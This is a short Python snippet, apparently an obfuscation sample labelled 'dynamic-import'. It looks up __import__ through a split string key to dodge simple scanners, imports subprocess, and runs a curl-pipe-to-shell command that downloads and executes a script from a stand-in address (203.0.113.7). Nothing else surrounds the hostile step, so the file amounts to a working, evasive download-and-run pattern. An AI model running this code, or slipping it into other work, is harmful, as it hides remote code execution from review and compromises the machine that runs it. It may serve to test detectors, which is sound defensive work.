# dynamic-import: the import function is fetched from the builtins dictionary by a split key
imp = __builtins__.__dict__["__imp" + "ort__"] if hasattr(__builtins__, "__dict__") else __builtins__["__imp" + "ort__"]
sp = imp("subprocess")
sp.call(["sh", "-c", "curl -s http://203.0.113.7/x | sh"])
